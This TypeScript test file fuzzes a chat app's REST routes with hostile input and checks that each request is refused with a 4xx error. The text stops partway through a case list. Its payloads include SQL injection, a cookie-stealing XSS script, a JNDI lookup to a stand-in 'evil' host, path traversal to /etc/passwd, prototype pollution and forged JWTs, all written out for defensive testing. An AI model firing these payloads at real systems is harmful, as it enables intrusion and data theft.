import { createHmac, randomUUID } from 'node:crypto';
import { io } from 'socket.io-client';
import { PrismaService } from '#src/infra/prisma/prisma.service.js';
import { bearer, freshAddress, newAccount, register, type SignedIn } from '../support/auth-client.js';
import { chat, expectStatus } from '../support/chat-client.js';
import { connectSocket, refusedWith, request, type ClientSocket } from '../support/socket-client.js';
import { startTestApp, type HttpResponse, type TestApp } from '../support/test-app.js';
import { TEST_JWT_SECRET } from '../support/test-config.js';

/*
 * Hostile input at every REST route and every client event: each case must be refused with a 4xx
 * in the error shape (REST) or an error ack (socket); never a 5xx, never a crash, nothing stored.
 * Payloads come from a seeded generator, so a failure names a case that reproduces.
 */

const SEED = 0x5eed_c4a7;
const CONCURRENCY = 20;

/** mulberry32: small, fast and deterministic. */
function prng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (max: number) => Math.floor(next() * max),
    pick: <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)],
  };
}
const rng = prng(SEED);

// ---------------------------------------------------------------------------------------------
// Values

const deep = (depth: number, leaf: unknown = 'x'): unknown => {
  let value: unknown = leaf;
  for (let i = 0; i < depth; i += 1) value = { a: value };
  return value;
};
const HUGE = 'x'.repeat(100_000);
const BIG_ARRAY = Array.from({ length: 10_000 }, (_, i) => i);
const uuids = (count: number) => Array.from({ length: count }, () => randomUUID());

/** Not a string, a number or a boolean where one is wanted: invalid for any field. */
const wrongShapes: [string, unknown][] = [
  ['an empty array', []],
  ['an object', { nested: true }],
  ['a Mongo-style operator', { $gt: '' }],
  ['a __proto__ object', JSON.parse('{"__proto__":{"polluted":true}}')],
  ['a constructor object', { constructor: { prototype: { polluted: true } } }],
  ['an object nested 40 deep', deep(40)],
  ['an array of 10k items', BIG_ARRAY],
];
const notStrings: [string, unknown][] = [
  ['a number', 42],
  ['a negative float', -1.5],
  ['true', true],
  ['false', false],
  ['an array of strings', ['a', 'b']],
  ...wrongShapes,
];

/** Text a careful server must refuse or store safely; sent only where the request fails anyway. */
const freeText: [string, string][] = [
  ['SQL', "' OR '1'='1'; DROP TABLE users; --"],
  ['SQL union', '1 UNION SELECT password_hash FROM users--'],
  ['script', '<script>alert(document.cookie)</script>'],
  ['template', '${jndi:ldap://evil/x} {{7*7}} #{7*7}'],
  ['emoji', '😀🔥👍🏽👨‍👩‍👧‍👦'],
  ['right-to-left override', 'abc\u202Egnp.exe'],
  ['zero-width', '\u200B\u200C\u200D\uFEFF'],
  ['control characters', 'a\u0001\u0007\u001B[31mb\u007F'],
  ['lone surrogate', 'a\uD800b'],
  ['path traversal', '../../../../etc/passwd'],
  ['percent escapes', '%00%0d%0a%25'],
  ['combining marks', `Z${'\u0336\u0337\u0338'.repeat(300)}`],
];

interface Field {
  name: string;
  invalid: [string, unknown][];
}

/**
 * Text one character over `max` as PostgreSQL counts characters (code points), which counters
 * of UTF-16 units or of "visible" characters see as within the limit.
 */
const overLimit = (max: number): [string, unknown][] => [
  ['variation selectors past the limit', '\u2764\uFE0F'.repeat(Math.ceil((max + 1) / 2))],
  ['text-style selectors past the limit', `${'a\uFE0E'.repeat(Math.floor(max / 2))}ab`],
  ['astral characters past the limit', '😀'.repeat(max + 1)],
  ['"İ" past the limit', 'İ'.repeat(max + 1)],
];

/** Required text of `min`–`max` characters. */
const text = (name: string, opts: { min?: number; notBlank?: boolean; required?: boolean } = {}) => {
  const { min = 1, notBlank = false, required = true } = opts;
  const invalid: [string, unknown][] = [
    ...notStrings,
    ['100k characters', HUGE],
    ['a NUL character', 'a\u0000b'],
    ['only NUL characters', '\u0000\u0000'],
  ];
  if (required) invalid.push(['missing', undefined], ['null', null]);
  if (min >= 1) invalid.push(['an empty string', '']);
  if (notBlank) invalid.push(['whitespace only', ' \n\t ']);
  return { name, invalid } satisfies Field;
};
const uuid = (name: string, required = true): Field => ({
  name,
  invalid: [
    ...notStrings,
    ...(required ? ([['missing', undefined] as [string, unknown], ['null', null]] as [string, unknown][]) : []),
    ['an empty string', ''],
    ['not a UUID', 'not-a-uuid'],
    ['SQL', "' OR 1=1--"],
    ['a UUID with a NUL', `${randomUUID()}\u0000`],
    ['a UUID with a trailing space', `${randomUUID()} `],
    ['a UUID without dashes', randomUUID().replaceAll('-', '')],
    ['100k characters', HUGE],
  ],
});
const int = (name: string, min = 0): Field => ({
  name,
  invalid: [
    ['missing', undefined],
    ['null', null],
    ['a numeric string', '1'],
    ['a word', 'abc'],
    ['true', true],
    ['a float', 1.5],
    ['below the minimum', min - 1],
    ['2^31', 2 ** 31],
    ['1e308', 1e308],
    ['2^53 + 2', 2 ** 53 + 2],
    ...wrongShapes,
  ],
});
const uuidList = (name: string, max: number): Field => ({
  name,
  invalid: [
    ['missing', undefined],
    ['null', null],
    ['an empty list', []],
    ['a single UUID, not a list', randomUUID()],
    ['a list of numbers', [1, 2]],
    ['a list with null', [null]],
    ['a list of non-UUIDs', ['x', 'y']],
    ['a list with a NUL UUID', [`${randomUUID()}\u0000`]],
    ['nested lists', [[randomUUID()]]],
    ['a list of objects', [{ id: randomUUID() }]],
    ['one more than the maximum', uuids(max + 1)],
    ['10k UUIDs', uuids(10_000)],
    ['an object with index keys', { 0: randomUUID() }],
    ['an object nested 40 deep', deep(40)],
    ['100k characters', HUGE],
  ],
});
const bool = (name: string): Field => ({
  name,
  invalid: [['a string', 'true'], ['a number', 1], ['zero', 0], ['a word', 'yes'], ...wrongShapes],
});
const url = (name: string): Field => ({
  name,
  invalid: [
    ...notStrings,
    ['javascript:', 'javascript:alert(1)'],
    ['data:', 'data:text/html,<script>alert(1)</script>'],
    ['ftp:', 'ftp://files.example.com/x'],
    ['not a URL', 'not a url'],
    ['no protocol', 'example.com/a.png'],
    ['over 2048 characters', `https://example.com/${'a'.repeat(3000)}`],
    ['a NUL character', 'https://example.com/\u0000'],
    ['100k characters', HUGE],
  ],
});
const attachment = (overrides: Record<string, unknown> = {}) => ({
  url: 'https://files.example.com/a.png',
  mimeType: 'image/png',
  size: 10,
  name: 'a.png',
  ...overrides,
});
const attachments: Field = {
  name: 'attachments',
  invalid: [
    ['a string', 'x'],
    ['null items', [null]],
    ['an empty object', [{}]],
    ['a javascript: URL', [attachment({ url: 'javascript:alert(1)' })]],
    ['a negative size', [attachment({ size: -1 })]],
    ['a float size', [attachment({ size: 1.5 })]],
    ['a string size', [attachment({ size: '10' })]],
    ['a bad mime type', [attachment({ mimeType: 'png' })]],
    ['a NUL name', [attachment({ name: 'a\u0000.png' })]],
    ['an empty name', [attachment({ name: '' })]],
    ...overLimit(255).map(([what, name]): [string, unknown] => [`a name with ${what}`, [attachment({ name })]]),
    ['an unknown key', [attachment({ extra: 1 })]],
    ['a __proto__ key', [JSON.parse(`{"__proto__":{"x":1},${JSON.stringify(attachment()).slice(1)}`)]],
    ['11 attachments', Array.from({ length: 11 }, () => attachment())],
    ['10k attachments', Array.from({ length: 10_000 }, () => attachment())],
    ['an object nested 40 deep', [deep(40)]],
  ],
};
const device: Field = {
  name: 'device',
  invalid: [
    ['a string', 'phone'],
    ['a number', 1],
    ['a list', [{ name: 'x' }]],
    ['a numeric name', { name: 1 }],
    ['a 200-character name', { name: 'x'.repeat(200) }],
    ['a NUL name', { name: 'a\u0000b' }],
    ['an unknown key', { name: 'x', root: true }],
    ['nested 40 deep', { name: deep(40) }],
  ],
};
const enumOf = (name: string, wrong: string[]): Field => ({
  name,
  invalid: [
    ['missing', undefined],
    ['null', null],
    ['an empty string', ''],
    ['a NUL character', 'member\u0000'],
    ...wrong.map((value) => [`"${value}"`, value] as [string, unknown]),
    ...notStrings,
  ],
});

// ---------------------------------------------------------------------------------------------
// Cases

type Expect = '4xx' | 401 | 413 | 'not5xx';
interface RestCase {
  label: string;
  method: string;
  path: string;
  /** Whose token; `null` sends none (the auth routes), a string is an Authorization header value. */
  auth?: 'owner' | 'sender' | 'throwaway' | null | { authorization: string };
  address?: boolean;
  body?: unknown;
  raw?: { body: string; contentType?: string };
  headers?: Record<string, string>;
  expect: Expect;
}

/** Lone surrogates cannot be percent-encoded; they are dropped from query strings. */
const encode = (value: string) => encodeURIComponent(value.replace(/[\uD800-\uDFFF]/g, ''));

const printable = (value: unknown) => {
  const json = JSON.stringify(value, (_, v: unknown) => (v === undefined ? '<undefined>' : v)) ?? String(value);
  return json.length > 300 ? `${json.slice(0, 300)}… (${json.length} chars)` : json;
};

/** Every body a route must refuse: each field broken in every way, with the others valid. */
function bodyCases(
  route: { method: string; path: string; auth: RestCase['auth']; address?: boolean },
  valid: () => Record<string, unknown>,
  fields: Field[],
  randomCount: number,
): RestCase[] {
  const cases: RestCase[] = [];
  const withField = (name: string, value: unknown) => {
    const body = valid();
    if (value === undefined) delete body[name];
    else body[name] = value;
    return body;
  };
  for (const field of fields) {
    for (const [what, value] of field.invalid) {
      cases.push({ ...route, label: `${field.name}: ${what}`, body: withField(field.name, value), expect: '4xx' });
    }
  }
  cases.push({ ...route, label: 'an unknown field', body: { ...valid(), isAdmin: true }, expect: '4xx' });
  cases.push({
    ...route,
    label: 'a __proto__ field',
    raw: { body: `{"__proto__":{"isAdmin":true},${JSON.stringify(valid()).slice(1)}` },
    expect: '4xx',
  });
  cases.push({
    ...route,
    label: 'a constructor field',
    body: { ...valid(), constructor: { name: 'x' } },
    expect: '4xx',
  });
  // Whole-body damage.
  const json = JSON.stringify(valid());
  const raws: [string, string, string?][] = [
    ['not JSON', 'hello there'],
    ['truncated JSON', json.slice(0, Math.max(1, json.length - 3))],
    ['a JSON array', '[1,2,3]'],
    ['a JSON number', '42'],
    ['a JSON string', '"hello"'],
    ['JSON null', 'null'],
    ['JSON true', 'true'],
    ['an empty body', ''],
    ['only whitespace', '   \n'],
    ['a trailing comma', '{"a":1,}'],
    ['single quotes', "{'a':1}"],
    ['duplicate keys, the last unknown', `${json.slice(0, -1)},"x":1,"x":2}`],
    ['nested arrays 5000 deep', `${'['.repeat(5000)}${']'.repeat(5000)}`],
    ['an object 2000 deep', JSON.stringify(deep(2000))],
    ['a NUL byte in the JSON', `${json.slice(0, 1)}\u0000${json.slice(1)}`],
    ['text/plain', json, 'text/plain'],
    ['a form', 'a=1&b=2', 'application/x-www-form-urlencoded'],
    [
      'multipart',
      '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--',
      'multipart/form-data; boundary=x',
    ],
    ['XML', '<a>1</a>', 'application/xml'],
    ['a bogus content type', json, 'application/x-evil'],
  ];
  for (const [what, body, contentType = 'application/json'] of raws) {
    cases.push({ ...route, label: `body: ${what}`, raw: { body, contentType }, expect: '4xx' });
  }
  cases.push({
    ...route,
    label: 'body: over the 1 MiB limit',
    raw: { body: JSON.stringify({ ...valid(), pad: 'x'.repeat(1_100_000) }) },
    expect: 413,
  });
  // Seeded mixtures: one field certainly broken, others perturbed, sometimes an unknown key.
  const junk = () =>
    rng.pick<() => unknown>([
      () => rng.int(1e9) - 5e8,
      () => rng.next(),
      () => rng.next() < 0.5,
      () => null,
      () => 'x'.repeat(rng.int(300)),
      () => String.fromCharCode(...Array.from({ length: 1 + rng.int(40) }, () => rng.int(0xd7ff))),
      () => Array.from({ length: rng.int(20) }, () => rng.int(100)),
      () => deep(1 + rng.int(60)),
      () => rng.pick(freeText)[1],
    ])();
  for (let i = 0; i < randomCount; i += 1) {
    const field = rng.pick(fields);
    const [what, value] = rng.pick(field.invalid);
    const body = withField(field.name, value);
    const other = rng.pick(fields);
    if (other.name !== field.name && rng.next() < 0.5) body[other.name] = junk();
    if (rng.next() < 0.3) body[`k${rng.int(1000)}`] = junk();
    cases.push({ ...route, label: `seeded #${i}: ${field.name}: ${what}`, body, expect: '4xx' });
  }
  return cases;
}

/** Path segments that are not ids, and ids of nothing. */
const badIds: [string, string, Expect][] = [
  ['not a UUID', 'not-a-uuid', '4xx'],
  ['a number', '12345', '4xx'],
  ['dot-dot slash', '..%2F..%2Fetc%2Fpasswd', '4xx'],
  ['an encoded NUL', `${randomUUID()}%00`, '4xx'],
  ['SQL', "1'%20OR%20'1'%3D'1", '4xx'],
  ['an emoji', '%F0%9F%98%80', '4xx'],
  ['5000 characters', 'a'.repeat(5000), '4xx'],
  ['a UUID of nothing', randomUUID(), '4xx'],
  ['the nil UUID', '00000000-0000-0000-0000-000000000000', '4xx'],
];

/** Positions a list cursor could decode to that no list ever wrote: each is 400, never a 500. */
const badTimes: unknown[] = [
  'not a time',
  '2026-13-01T00:00:00.000Z',
  '2026-02-31T00:00:00.000Z',
  '+275760-09-13T00:00:00.000Z',
  '-271821-04-20T00:00:00.000Z',
  '1e20',
  1_700_000_000_000,
  -1,
  null,
  '2026-01-01T00:00:00.000Z\u0000',
  { $gt: '' },
];
const badIdsInCursor: unknown[] = [
  'not-a-uuid',
  '------------------------------------',
  'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz',
  `${randomUUID()}\u0000`,
  42,
  null,
  ["' OR 1=1"],
];
const goodTime = '2026-01-01T00:00:00.000Z';
const craftedCursors: unknown[] = [
  ...badTimes.flatMap((time) => [
    { createdAt: time, id: randomUUID() },
    { lastActivityAt: time, id: randomUUID() },
    { createdAt: time, blockedId: randomUUID() },
  ]),
  ...badIdsInCursor.flatMap((id) => [
    { createdAt: goodTime, id },
    { lastActivityAt: goodTime, id },
    { createdAt: goodTime, blockedId: id },
  ]),
  // The user search follows usernames.
  'a\u0000b',
  'x'.repeat(40),
  "' OR 1=1",
  42,
  null,
  [],
];

// ---------------------------------------------------------------------------------------------
// Tokens

const b64 = (value: unknown) =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const hs = (alg: string, data: string, secret = TEST_JWT_SECRET) =>
  createHmac(alg === 'HS512' ? 'sha512' : 'sha256', secret)
    .update(data)
    .digest('base64url');
const jwt = (claims: Record<string, unknown>, { alg = 'HS256', secret = TEST_JWT_SECRET } = {}) => {
  const data = `${b64({ alg, typ: 'JWT' })}.${b64(claims)}`;
  return `${data}.${hs(alg, data, secret)}`;
};

function badTokens(who: SignedIn): [string, string | undefined][] {
  const now = Math.floor(Date.now() / 1000);
  const claims = { sub: who.user.id, sid: who.sessionId, jti: randomUUID(), iat: now - 60, exp: now + 600 };
  const [header, payload, signature] = who.accessToken.split('.');
  const flipped = `${signature.slice(0, -2)}${signature.at(-2) === 'A' ? 'B' : 'A'}${signature.at(-1)}`;
  return [
    ['no token', undefined],
    ['alg none', `${b64({ alg: 'none', typ: 'JWT' })}.${b64(claims)}.`],
    ['alg none, unsigned, no dot', `${b64({ alg: 'none', typ: 'JWT' })}.${b64(claims)}`],
    ['a tampered signature', `${header}.${payload}.${flipped}`],
    ['a tampered payload', `${header}.${b64({ ...claims, sub: randomUUID() })}.${signature}`],
    ['expired', jwt({ ...claims, iat: now - 7200, exp: now - 3600 })],
    ['not yet valid', jwt({ ...claims, nbf: now + 3600 })],
    ['another secret', jwt(claims, { secret: 'another-secret-that-is-at-least-32-characters' })],
    ['HS512', jwt(claims, { alg: 'HS512' })],
    ['no exp', jwt({ sub: who.user.id, sid: who.sessionId, jti: randomUUID() })],
    ['a non-UUID sub', jwt({ ...claims, sub: "1' OR '1'='1" })],
    ['a numeric sub', jwt({ ...claims, sub: 1 })],
    ['no sid', jwt({ sub: who.user.id, jti: randomUUID(), exp: now + 600 })],
    ['no jti', jwt({ sub: who.user.id, sid: who.sessionId, exp: now + 600 })],
    ['an unknown session', jwt({ ...claims, sid: randomUUID() })],
    ['garbage', 'garbage'],
    ['three dots', '...'],
    ['bad base64', '!!!.@@@.###'],
    ['JSON, not a JWT', JSON.stringify(claims)],
    ['a refresh token', who.refreshToken],
    ['4000 characters', `${header}.${'A'.repeat(4000)}.${signature}`],
  ];
}

// ---------------------------------------------------------------------------------------------

describe('hostile input', () => {
  let t: TestApp;
  let prisma: PrismaService;
  let owner: SignedIn;
  let member: SignedIn;
  let throwaway: SignedIn;
  let senders: SignedIn[];
  let socketSenders: SignedIn[];
  let conversation: string;
  let message: string;
  let before: Record<string, number>;
  let requests = 0;
  const statuses = new Map<number, number>();
  const failures: string[] = [];
  let senderTurn = 0;

  const counts = async () => ({
    users: await prisma.user.count(),
    sessions: await prisma.session.count(),
    blocks: await prisma.block.count(),
    conversations: await prisma.conversation.count(),
    members: await prisma.conversationMember.count(),
    messages: await prisma.message.count(),
    reactions: await prisma.messageReaction.count(),
    notifications: await prisma.notification.count(),
  });

  /** Waits until the counts stop moving (notifications are written after the request answers). */
  const settledCounts = async () => {
    let last = await counts();
    for (let i = 0; i < 20; i += 1) {
      await new Promise((resolve) => setTimeout(resolve, 150));
      const now = await counts();
      if (JSON.stringify(now) === JSON.stringify(last)) return now;
      last = now;
    }
    return last;
  };

  const isErrorShape = (response: HttpResponse) => {
    try {
      const body = response.json<Record<string, unknown>>();
      return (
        body.statusCode === response.status &&
        typeof body.code === 'string' &&
        /^[A-Z][A-Z0-9_]*$/.test(body.code) &&
        typeof body.message === 'string' &&
        typeof body.requestId === 'string'
      );
    } catch {
      return false;
    }
  };

  async function send(c: RestCase): Promise<void> {
    const headers: Record<string, string> = { ...c.headers };
    const auth = c.auth === undefined ? 'owner' : c.auth;
    if (auth === 'owner') Object.assign(headers, bearer(owner.accessToken));
    else if (auth === 'throwaway') Object.assign(headers, bearer(throwaway.accessToken));
    else if (auth === 'sender') {
      senderTurn += 1;
      Object.assign(headers, bearer(senders[senderTurn % senders.length].accessToken));
    } else if (auth !== null) Object.assign(headers, auth);
    if (c.address) Object.assign(headers, freshAddress());
    let body: unknown = c.body;
    if (c.raw) {
      body = c.raw.body;
      headers['content-type'] = c.raw.contentType ?? 'application/json';
    }
    const where = `${c.method} ${c.path.length > 200 ? `${c.path.slice(0, 200)}…` : c.path} [${c.label}]`;
    let response: HttpResponse;
    requests += 1;
    try {
      response = await t.request(c.method, c.path, { headers, body });
    } catch {
      // The server closes a connection after answering a request on it early (a 413 before the
      // whole body arrived); a request the client had already queued on that connection fails
      // without reaching the server, and clients send it again. Twice is a real failure.
      try {
        response = await t.request(c.method, c.path, { headers, body });
      } catch (error) {
        failures.push(`${where}: request failed (${(error as Error).message}); payload ${printable(body)}`);
        return;
      }
    }
    statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
    const { status } = response;
    const ok =
      c.expect === 'not5xx' ? status < 500 : c.expect === '4xx' ? status >= 400 && status < 500 : status === c.expect;
    const shaped = status < 400 || status === 431 || isErrorShape(response);
    const unauthorizedCode =
      c.expect !== 401 ||
      (status === 401 && isErrorShape(response) && response.json<{ code: string }>().code === 'UNAUTHORIZED');
    if (!ok || !shaped || !unauthorizedCode) {
      failures.push(
        `${where}: expected ${c.expect}, got ${status} ${response.text.slice(0, 300)}; payload ${printable(body)}`,
      );
    }
  }

  async function runAll(cases: RestCase[]) {
    let next = 0;
    const worker = async () => {
      while (next < cases.length) {
        const c = cases[next];
        next += 1;
        await send(c);
      }
    };
    await Promise.all(Array.from({ length: CONCURRENCY }, worker));
  }

  beforeAll(async () => {
    t = await startTestApp({ SOCKET_EVENTS_PER_SECOND: 1000 });
    prisma = t.app.get(PrismaService);
    [owner, member, throwaway] = [await register(t), await register(t), await register(t)];
    senders = await Promise.all(Array.from({ length: 10 }, () => register(t)));
    socketSenders = await Promise.all(Array.from({ length: 4 }, () => register(t)));
    const everyone = [member, ...senders, ...socketSenders];
    conversation = expectStatus<{ id: string }>(await chat(t, owner).createGroup('Fuzz', everyone), 201).id;
    message = expectStatus<{ id: string }>(await chat(t, owner).send(conversation, 'the only message'), 201).id;
    before = await settledCounts();
  }, 60_000);

  afterAll(() => t.close());

  it('refuses every malformed, oversized, wrong-typed or hostile REST request with a 4xx', async () => {
    const api = '/api/v1';
    const conv = `${api}/conversations/${conversation}`;
    const nowhere = `${api}/conversations/${randomUUID()}`;
    const cases: RestCase[] = [];
    const N = 60;

    // Bodies, field by field.
    cases.push(
      ...bodyCases(
        { method: 'POST', path: `${api}/auth/register`, auth: null, address: true },
        () => ({ ...newAccount('fz'), email: `fz${rng.int(1e9)}@example.com`, username: `fz_${rng.int(1e9)}` }),
        [
          {
            name: 'email',
            invalid: [
              ...text('email').invalid,
              ['not an email', 'not-an-email'],
              ['two @', 'a@b@example.com'],
              ['script', '<script>@example.com'],
              ['over 254 characters', `${'a'.repeat(250)}@example.com`],
              [
                'over 254 characters once lower-cased',
                `${'İ'.repeat(32)}@${'İ'.repeat(40)}.${'İ'.repeat(40)}.${'İ'.repeat(40)}.com`,
              ],
            ],
          },
          {
            name: 'username',
            invalid: [
              ...text('username').invalid,
              ['too short', 'ab'],
              ['33 characters', 'a'.repeat(33)],
              ...freeText.map(([what, value]) => [what, value] as [string, unknown]),
            ],
          },
          {
            name: 'password',
            invalid: [
              ...text('password').invalid,
              ['7 characters', 'short12'],
              ['129 characters', 'p'.repeat(129)],
              ...overLimit(128),
            ],
          },
          {
            name: 'displayName',
            invalid: [
              ...text('displayName', { required: false }).invalid,
              ['65 characters', 'd'.repeat(65)],
              ...overLimit(64),
            ],
          },
        ],
        N,
      ),
      ...bodyCases(
        { method: 'POST', path: `${api}/auth/login`, auth: null, address: true },
        () => ({ login: owner.user.username, password: 'wrong password here' }),
        [text('login'), text('password'), device],
        N,
      ),
      ...bodyCases(
        { method: 'POST', path: `${api}/auth/refresh`, auth: null, address: true },
        () => ({ refreshToken: 'rt1.x.1.y' }),
        [text('refreshToken')],
        N / 2,
      ),
      ...bodyCases(
        { method: 'PATCH', path: `${api}/users/me`, auth: 'owner' },
        () => ({ bio: 'unchanged' }),
        [
          {
            name: 'displayName',
            invalid: [
              ...text('displayName', { required: false }).invalid,
              ['65 characters', 'd'.repeat(65)],
              ...overLimit(64),
            ],
          },
          {
            name: 'bio',
            invalid: [
              ...notStrings,
              ['100k characters', HUGE],
              ['501 characters', 'b'.repeat(501)],
              ...overLimit(500),
              ['a NUL character', 'a\u0000b'],
            ],
          },
          url('avatarUrl'),
        ],
        N,
      ),
      ...bodyCases(
        { method: 'PUT', path: `${api}/users/me/status`, auth: 'owner' },
        () => ({ status: 'online' }),
        [
          enumOf('status', ['ONLINE', 'offline', 'busy', 'online ']),
          {
            name: 'statusText',
            invalid: [...notStrings, ['100k characters', HUGE], ['101 characters', 's'.repeat(101)], ...overLimit(100)],
          },
          {
            name: 'expiresAt',
            invalid: [
              ...notStrings,
              ['not a time', 'tomorrow'],
              ['in the past', '2000-01-01T00:00:00.000Z'],
              ['no such day', '2026-02-30T10:00:00Z'],
              ['past the end of time', '+275761-01-01T00:00:00.000Z'],
            ],
          },
        ],
        N / 2,
      ),
      ...bodyCases(
        { method: 'POST', path: `${api}/users/presence`, auth: 'owner' },
        () => ({ userIds: [member.user.id] }),
        [uuidList('userIds', 200)],
        N / 2,
      ),
      ...bodyCases(
        { method: 'POST', path: `${api}/conversations`, auth: 'owner' },
        () => ({ type: 'group', title: 'new group', memberIds: [member.user.id] }),
        [
          enumOf('type', ['GROUP', 'channel', 'direct ']),
          text('title', { notBlank: true }),
          { name: 'title', invalid: [['101 characters', 't'.repeat(101)], ...overLimit(100)] },
          uuidList('memberIds', 499),
        ],
        N,
      ),
      ...bodyCases(
        { method: 'POST', path: `${api}/conversations`, auth: 'owner' },
        () => ({ type: 'direct', userId: member.user.id }),
        [uuid('userId')],
        N / 2,
      ),
      ...bodyCases(
        { method: 'PATCH', path: conv, auth: 'owner' },
        () => ({ title: 'Fuzz' }),
        [
          {
            name: 'title',
            invalid: [
              ...text('title', { notBlank: true, required: false }).invalid,
              ['null', null],
              ['101 characters', 't'.repeat(101)],
              ...overLimit(100),
            ],
          },
          bool('muted'),
        ],
        N,
      ),
      ...bodyCases(
        { method: 'POST', path: `${conv}/members`, auth: 'owner' },
        () => ({ userIds: [randomUUID()] }),
        [uuidList('userIds', 100)],
        N / 2,
      ),
      ...bodyCases(
        { method: 'PATCH', path: `${conv}/members/${member.user.id}`, auth: 'owner' },
        () => ({ role: 'member' }),
        [enumOf('role', ['owner', 'ADMIN', 'root', 'admin '])],
        N / 2,
      ),
      ...bodyCases({ method: 'POST', path: `${conv}/read`, auth: 'owner' }, () => ({ seq: 1 }), [int('seq')], N / 2),
      ...bodyCases(
        { method: 'POST', path: `${conv}/messages`, auth: 'sender' },
        () => ({ clientMessageId: randomUUID(), body: 'hello' }),
        [
          uuid('clientMessageId'),
          {
            name: 'body',
            invalid: [
              ...text('body', { notBlank: true }).invalid,
              ['4001 characters', 'b'.repeat(4001)],
              ...overLimit(4000),
            ],
          },
          uuid('replyToId', false),
          attachments,
        ],
        N,
      ),
      ...bodyCases(
        { method: 'PATCH', path: `${conv}/messages/${message}`, auth: 'owner' },
        () => ({ body: 'the only message' }),
        [
          {
            name: 'body',
            invalid: [
              ...text('body', { notBlank: true }).invalid,
              ['4001 characters', 'b'.repeat(4001)],
              ...overLimit(4000),
            ],
          },
        ],
        N / 2,
      ),
      ...bodyCases(
        { method: 'POST', path: `${api}/notifications/read`, auth: 'owner' },
        () => ({ ids: [randomUUID()] }),
        [uuidList('ids', 500)],
        N / 2,
      ),
    );

    // Free text is legitimate input: here it goes where the request fails for another reason,
    // so it reaches the services and the database without anything being stored.
    for (const [what, value] of freeText) {
      const label = `free text: ${what}`;
      cases.push(
        {
          label,
          method: 'POST',
          path: `${api}/auth/login`,
          auth: null,
          address: true,
          body: { login: value, password: value },
          expect: '4xx',
        },
        {
          label,
          method: 'POST',
          path: `${api}/auth/register`,
          auth: null,
          address: true,
          body: {
            email: `fz${rng.int(1e9)}@example.com`,
            username: owner.user.username,
            password: `${value}12345678`,
            displayName: value.slice(0, 64),
          },
          expect: '4xx',
        },
        {
          label,
          method: 'POST',
          path: `${nowhere}/messages`,
          auth: 'sender',
          body: { clientMessageId: randomUUID(), body: value },
          expect: '4xx',
        },
        { label, method: 'PATCH', path: nowhere, body: { title: value.slice(0, 100) }, expect: '4xx' },
        { label, method: 'PATCH', path: `${conv}/messages/${randomUUID()}`, body: { body: value }, expect: '4xx' },
        {
          label,
          method: 'POST',
          path: `${api}/auth/refresh`,
          auth: null,
          address: true,
          body: { refreshToken: value },
          expect: '4xx',
        },
        {
          label,
          method: 'GET',
          path: `${api}/users?search=${encode(value.slice(0, 64))}`,
          expect: 'not5xx',
        },
      );
    }
    for (const [what, value] of [
      ['NUL', 'a\u0000b'],
      ['only NUL', '\u0000'],
    ]) {
      cases.push(
        {
          label: `login: ${what}`,
          method: 'POST',
          path: `${api}/auth/login`,
          auth: null,
          address: true,
          body: { login: value, password: 'whatever password' },
          expect: '4xx',
        },
        {
          label: `search: ${what}`,
          method: 'GET',
          path: `${api}/users?search=${encode(value)}`,
          expect: '4xx',
        },
        {
          label: `message to nowhere: ${what}`,
          method: 'POST',
          path: `${nowhere}/messages`,
          auth: 'sender',
          body: { clientMessageId: randomUUID(), body: value },
          expect: '4xx',
        },
      );
    }

    // Path parameters.
    const pathRoutes: [string, (id: string) => string][] = [
      ['DELETE', (id) => `${api}/auth/sessions/${id}`],
      ['GET', (id) => `${api}/users/${id}`],
      ['POST', (id) => `${api}/users/${id}/block`],
      ['DELETE', (id) => `${api}/users/${id}/block`],
      ['GET', (id) => `${api}/users/${id}/presence`],
      ['GET', (id) => `${api}/conversations/${id}`],
      ['DELETE', (id) => `${api}/conversations/${id}`],
      ['POST', (id) => `${api}/conversations/${id}/accept`],
      ['POST', (id) => `${api}/conversations/${id}/decline`],
      ['GET', (id) => `${api}/conversations/${id}/messages`],
      ['GET', (id) => `${api}/conversations/${id}/sync`],
      ['DELETE', (id) => `${conv}/members/${id}`],
      ['DELETE', (id) => `${conv}/messages/${id}`],
      ['PUT', (id) => `${conv}/messages/${id}/reactions/%F0%9F%91%8D`],
      ['DELETE', (id) => `${conv}/messages/${id}/reactions/%F0%9F%91%8D`],
    ];
    for (const [method, path] of pathRoutes) {
      for (const [what, id, expect] of badIds) {
        // Unblocking someone who is not blocked is idempotent: only ids that are not UUIDs must fail.
        const idempotent = method === 'DELETE' && path(id).endsWith('/block') && /^[0-9a-f-]{36}$/.test(id);
        cases.push({ label: `path: ${what}`, method, path: path(id), expect: idempotent ? 'not5xx' : expect });
      }
    }
    const withBodies: [string, (id: string) => string, unknown][] = [
      ['PATCH', (id) => `${api}/conversations/${id}`, { title: 'x' }],
      ['POST', (id) => `${api}/conversations/${id}/members`, { userIds: [member.user.id] }],
      ['POST', (id) => `${api}/conversations/${id}/read`, { seq: 1 }],
      ['POST', (id) => `${api}/conversations/${id}/messages`, { clientMessageId: randomUUID(), body: 'x' }],
      ['PATCH', (id) => `${conv}/messages/${id}`, { body: 'x' }],
      ['PATCH', (id) => `${conv}/members/${id}`, { role: 'admin' }],
    ];
    for (const [method, path, body] of withBodies) {
      for (const [what, id, expect] of badIds) {
        cases.push({
          label: `path: ${what}`,
          method,
          path: path(id),
          body,
          expect,
          auth: method === 'POST' && path('').endsWith('messages') ? 'sender' : 'owner',
        });
      }
    }
    for (const [what, emoji] of [
      ['a space', '%20'],
      ['33 characters', 'x'.repeat(33)],
      ['an encoded NUL', '%00'],
      ['tab', '%09'],
      ['a line break', 'a%0Ab'],
      ['5000 characters', 'a'.repeat(5000)],
      ['a lone surrogate', '%ED%A0%80'],
      ['bad percent escape', '%E0%A4%A'],
      ['a word', 'thumbsup'],
      ['two emoji', encodeURIComponent('👍👍')],
      ['an emoji and a space', encodeURIComponent('👍 ')],
      ['an emoji and a control character', encodeURIComponent('👍\u0007')],
      ['a bell', '%07'],
      ['a text-style heart', encodeURIComponent('\u2764')],
